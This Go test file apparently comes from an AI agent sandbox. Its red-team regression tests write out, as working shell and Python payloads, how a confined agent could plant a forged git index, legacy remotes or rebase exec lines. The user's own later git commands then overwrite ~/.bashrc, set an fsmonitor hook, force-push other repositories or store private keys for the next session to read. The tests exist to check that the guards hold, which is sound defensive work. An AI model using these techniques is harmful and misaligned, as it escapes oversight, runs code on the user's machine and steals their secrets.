package sandbox

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// red17cIndex is shell, run inside in a repository of the user's, that
// writes .git/index by hand (git's own update-index refuses such names)
// with the entries NAME=CONTENT given as its arguments after the script,
// f being the tip's: any name, "../x" or "/home/u/.bashrc" too.
const red17cIndex = `python3 - "$@" <<'PY'
import hashlib, struct, subprocess, sys
ents = []
for a in sys.argv[1:]:
    name, content = a.split("=", 1)
    oid = subprocess.run(["git", "hash-object", "-w", "--stdin"], input=content.encode(), capture_output=True, check=True).stdout.strip()
    ents.append((name.encode(), bytes.fromhex(oid.decode()), len(content)))
ents.sort()
body = b"DIRC" + struct.pack(">II", 2, len(ents))
for name, oid, size in ents:
    e = struct.pack(">IIIIIIIIII", 0, 0, 0, 0, 0, 0, 0o100644, 0, 0, size) + oid + struct.pack(">H", min(len(name), 0xfff)) + name
    body += e + b"\0" * (8 - (62 + len(name)) % 8)
open(".git/index", "wb").write(body + hashlib.sha1(body).digest())
PY
`

// TestGitIndexPathOutside: .git/index is not pinned (git inside writes
// it), and git does not check the names in an index it reads: the agent
// writes an index whose entries are named "/ABS/PATH" or "../PATH", and
// the user's `git checkout -- .` or `git restore .` (what one runs to
// drop an agent's changes) writes the blob to that path, outside the
// workspace: here over the user's ~/.bashrc, with code their next shell
// runs; or ".git/config" (the pin is inside only), with a core.fsmonitor
// their next git status runs (red team 17c). At the end the guard now
// moves aside an index with an entry git would not make (gitindex.go).
func TestGitIndexPathOutside(t *testing.T) {
	requireRoot(t)
	d := newDriver(t, NativeOptions{})
	ws, marker, git := userDir(t)
	red17Repo(t, git, ws)
	home := t.TempDir()
	os.Chown(home, userDirOwner, userDirOwner)
	victims := []string{filepath.Join(home, ".bashrc"), filepath.Join(home, ".profile")}
	for _, v := range victims {
		os.WriteFile(v, []byte("mine\n"), 0o644)
		os.Chown(v, userDirOwner, userDirOwner)
	}
	rel, _ := filepath.Rel(ws, victims[1])
	b := newBox(t, d, Spec{Workspace: ws, Owner: &User{UID: userDirOwner, GID: userDirOwner}})
	t.Log(b.must(`cd /workspace && set -- "f=$(cat f)" "` + victims[0] + `=touch ` + marker + `/bashrc" "` + rel + `=touch ` + marker + `/profile" ".git/config=$(printf '[core]\n\tfsmonitor = \"touch ` + marker + `/config; false\"\n')" && ` + red17cIndex + `git ls-files`))
	b.end()
	out, _ := git(ws, "status", "--short")
	t.Log("the user's git status:\n", out)
	out, _ = git(ws, "checkout", "--", ".")
	t.Log("the user's git checkout -- .: ", out)
	for _, v := range victims {
		if got, _ := os.ReadFile(v); string(got) != "mine\n" {
			t.Errorf("the user's %s, outside the workspace, rewritten by git checkout -- .: %q", v, got)
		}
	}
	out, _ = git(ws, "status")
	noMarks(t, marker, "the user (git checkout -- ., then git status)", out)
}

// TestGitLegacyRemotes: .git/remotes/NAME and .git/branches/NAME (git's
// remotes from before remote.* in config) are not pinned, and git reads
// them for a remote the config does not name, origin too, which a plain
// `git fetch`, `git pull` or `git push` uses: in a repository of the
// user's with no remote in its config, the agent writes
// .git/remotes/origin naming another repository of the user's, outside
// the workspace, with "Push: +main:main": the user's `git push` forces
// their other repository's main to the agent's commit (a write outside
// the workspace), and "Pull: private:stolen" makes `git fetch` copy that
// repository (or one the user's ssh key reads) into this one, where the
// next session reads it (red team 17c). remotes and branches are now
// among the states moved aside at the end when changed.
func TestGitLegacyRemotes(t *testing.T) {
	requireRoot(t)
	d := newDriver(t, NativeOptions{})
	ws, _, git := userDir(t)
	red17Repo(t, git, ws)
	other := filepath.Join(t.TempDir(), "other")
	red17Repo(t, git, other)
	if out, err := git(other, "config", "receive.denyCurrentBranch", "ignore"); err != nil {
		t.Fatal(out)
	}
	os.WriteFile(filepath.Join(other, "secret"), []byte("THE USER'S OTHER PROJECT\n"), 0o644)
	os.Chown(filepath.Join(other, "secret"), userDirOwner, userDirOwner)
	for _, c := range [][]string{{"checkout", "-qb", "private"}, {"add", "secret"}, {"commit", "-qm", "secret"}, {"checkout", "-q", "main"}} {
		if out, err := git(other, c...); err != nil {
			t.Fatal(out)
		}
	}
	before, _ := git(other, "rev-parse", "main")
	spec := Spec{Workspace: ws, Owner: &User{UID: userDirOwner, GID: userDirOwner}}
	b := newBox(t, d, spec)
	t.Log(b.must(`cd /workspace && export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@b GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@b && echo agent > f && git commit -qam agent &&
	mkdir -p .git/remotes && printf 'URL: ` + other + `\nPull: refs/heads/private:refs/heads/stolen\nPush: +refs/heads/main:refs/heads/main\n' > .git/remotes/origin && cat .git/remotes/origin`))
	b.end()
	fetch, _ := git(ws, "fetch")
	push, _ := git(ws, "push")
	t.Log("the user's git fetch: ", fetch, "git push: ", push)
	if after, _ := git(other, "rev-parse", "main"); after != before {
		t.Errorf("the user's git push forced main of their repository %s, outside the workspace, from %s to %s", other, strings.TrimSpace(before), strings.TrimSpace(after))
	}
	b = newBox(t, d, spec)
	got := b.must(`cd /workspace && git show stolen:secret 2>&1; true`)
	t.Log("the next session: ", got)
	b.term.Close()
	b.sb.Destroy(context.Background())
	if strings.Contains(got, "OTHER PROJECT") {
		t.Errorf("the next session read the user's repository %s, outside the workspace, fetched by their git fetch: %q", other, got)
	}
}

// TestGitLinkedWorktreeOutsideRebase: the workspace is a linked worktree
// of a repository of the user's outside it (its .git a file naming
// MAIN/.git/worktrees/NAME): the agent leaves a rebase in progress in
// that git directory, with an exec line, and the user's
// `git rebase --continue` in their worktree runs it. The in-progress
// rule passes over a repository that is a .git file. Holds: a git
// directory outside the workspace is not in the sandbox at all (git
// inside finds no repository there).
func TestGitLinkedWorktreeOutsideRebase(t *testing.T) {
	requireRoot(t)
	d := newDriver(t, NativeOptions{})
	ws, marker, git := userDir(t)
	outside, _, _ := userDir(t)
	main := filepath.Join(outside, "main")
	red17Repo(t, git, main)
	wt := filepath.Join(ws, "wt")
	if out, err := git(main, "worktree", "add", "-q", wt); err != nil {
		t.Fatal(out)
	}
	b := newBox(t, d, Spec{Workspace: ws, Owner: &User{UID: userDirOwner, GID: userDirOwner}})
	t.Log(b.must(strings.NewReplacer("MARK", marker).Replace(`cd /workspace/wt && cat .git && G=$(git rev-parse --absolute-git-dir) && echo $G && B=refs/heads/wt && ` + red17bRebaseIn + ` && printf 'exec touch MARK/linked-worktree\n' > $G/rebase-merge/git-rebase-todo && git status | head -3; true`)))
	b.end()
	out, _ := git(wt, "-c", "core.editor=true", "rebase", "--continue")
	noMarks(t, marker, "the user (git rebase --continue in their linked worktree)", out)
}

// TestGitIndexPathReadsOutside: as TestGitIndexPathOutside, an index
// whose entries name files of the user's outside the workspace
// ("/ABS/PATH", "../PATH"): the user's `git commit -a` (or `git add -A`)
// refreshes those tracked entries from the files they name, writing the
// user's private key into the repository's objects (and the commit's
// tree), where the next session reads it (red team 17c). Now held, as
// TestGitIndexPathOutside.
func TestGitIndexPathReadsOutside(t *testing.T) {
	requireRoot(t)
	d := newDriver(t, NativeOptions{})
	ws, _, git := userDir(t)
	red17Repo(t, git, ws)
	home := t.TempDir()
	os.Chown(home, userDirOwner, userDirOwner)
	os.Chmod(home, 0o700)
	secrets := []string{filepath.Join(home, "id_ed25519"), filepath.Join(home, "token")}
	for _, s := range secrets {
		os.WriteFile(s, []byte("SECRET OF THE USER "+filepath.Base(s)+"\n"), 0o600)
		os.Chown(s, userDirOwner, userDirOwner)
	}
	rel, _ := filepath.Rel(ws, secrets[1])
	spec := Spec{Workspace: ws, Owner: &User{UID: userDirOwner, GID: userDirOwner}}
	b := newBox(t, d, spec)
	t.Log(b.must(`cd /workspace && set -- "f=$(cat f)" "` + secrets[0] + `=x" "` + rel + `=x" && ` + red17cIndex + `git ls-files`))
	b.end()
	os.WriteFile(filepath.Join(ws, "f"), []byte("the user's change\n"), 0o644)
	out, _ := git(ws, "commit", "-qam", "mine")
	t.Log("the user's git commit -a: ", out)
	b = newBox(t, d, spec)
	got := b.must(`cd /workspace && git cat-file --batch-all-objects --batch 2>/dev/null | grep -a "SECRET OF"; true`)
	b.term.Close()
	b.sb.Destroy(context.Background())
	if strings.Contains(got, "SECRET OF") {
		t.Errorf("the next session read the user's files outside the workspace, which their git commit -a stored: %q", got)
	}
}

// TestGitSeparateGitDirRebase: a repository of the user's whose .git is
// a file naming a git directory elsewhere in the workspace (git init
// --separate-git-dir, "gitdir: ../gd"): the in-progress rule passes over
// a repository that is a .git file; the agent leaves a rebase with an
// exec line in the git directory it names, and the user's
// `git rebase --continue` runs it. Holds: the first shell finds the
// git directory itself among the user's repositories, and the rule
// moves its rebase-merge aside.
func TestGitSeparateGitDirRebase(t *testing.T) {
	requireRoot(t)
	d := newDriver(t, NativeOptions{})
	ws, marker, git := userDir(t)
	proj := filepath.Join(ws, "proj")
	os.MkdirAll(proj, 0o755)
	os.Chown(proj, userDirOwner, userDirOwner)
	if out, err := git(proj, "init", "-q", "-b", "main", "--separate-git-dir", filepath.Join(ws, "gd")); err != nil {
		t.Fatal(out)
	}
	os.WriteFile(filepath.Join(proj, ".git"), []byte("gitdir: ../gd\n"), 0o644)
	for i := range 3 {
		os.WriteFile(filepath.Join(proj, "f"), []byte(strings.Repeat("x\n", i+1)), 0o644)
		os.Chown(filepath.Join(proj, "f"), userDirOwner, userDirOwner)
		for _, c := range [][]string{{"add", "f"}, {"commit", "-qm", "c"}} {
			if out, err := git(proj, c...); err != nil {
				t.Fatal(out)
			}
		}
	}
	b := newBox(t, d, Spec{Workspace: ws, Owner: &User{UID: userDirOwner, GID: userDirOwner}})
	t.Log(b.must(strings.NewReplacer("MARK", marker).Replace(`cd /workspace/proj && G=$(git rev-parse --absolute-git-dir) && echo $G && B=refs/heads/main && ` + red17bRebaseIn + ` && printf 'exec touch MARK/separate-gitdir\n' > $G/rebase-merge/git-rebase-todo && git status | head -3; true`)))
	b.end()
	out, _ := git(proj, "-c", "core.editor=true", "rebase", "--continue")
	noMarks(t, marker, "the user (git rebase --continue, .git a file)", out)
}

// TestWorkspaceLinkedWorktree: a workspace that is itself a linked
// worktree (its .git a file naming a git directory elsewhere) starts,
// and git works in it; the protected .git paths are skipped there, as
// its git directory is out of the sandbox's reach (red team 17c found
// the start failing: "protect .git/hooks/ .git/hooks: not a directory").
func TestWorkspaceLinkedWorktree(t *testing.T) {
	requireRoot(t)
	d := newDriver(t, NativeOptions{})
	dir, _, git := userDir(t)
	main := filepath.Join(dir, "main")
	red17Repo(t, git, main)
	if out, err := git(main, "worktree", "add", "-q", filepath.Join(dir, "wt")); err != nil {
		t.Fatal(out)
	}
	b := newBox(t, d, Spec{Workspace: filepath.Join(dir, "wt"), Owner: &User{UID: userDirOwner, GID: userDirOwner}})
	if out := b.must("cat .git | head -c 7; echo; git status --short 2>&1 | head -3; echo ok"); !strings.Contains(out, "gitdir:") || !strings.Contains(out, "ok") {
		t.Errorf("inside the linked worktree:\n%s", out)
	}
	// Its .git file is pinned: the agent cannot point it at a git
	// directory of its own.
	if code, out := b.run("echo 'gitdir: evil' > .git"); code == 0 {
		t.Errorf("the worktree's .git file was rewritten inside: %s", out)
	}
}
